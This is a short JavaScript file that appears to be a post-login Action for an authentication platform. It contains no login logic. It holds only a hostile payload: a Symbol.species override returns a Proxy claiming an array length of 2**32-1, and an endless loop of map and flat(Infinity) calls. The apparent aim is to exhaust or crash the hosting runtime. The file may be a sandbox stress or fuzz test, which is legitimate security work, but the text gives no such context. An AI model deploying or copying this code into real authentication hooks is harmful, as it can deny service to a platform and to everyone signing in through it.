exports.onExecutePostLogin = async (event, api) => {
  const a = [1, 2, 3];
  a.constructor = { get [Symbol.species]() { return function (n) { return new Proxy([], { defineProperty: () => true, set: () => true, get: (t, k) => (k === 'length' ? 2 ** 32 - 1 : t[k]) }); }; } };
  for (;;) a.map((x) => x).flat(Infinity);
};
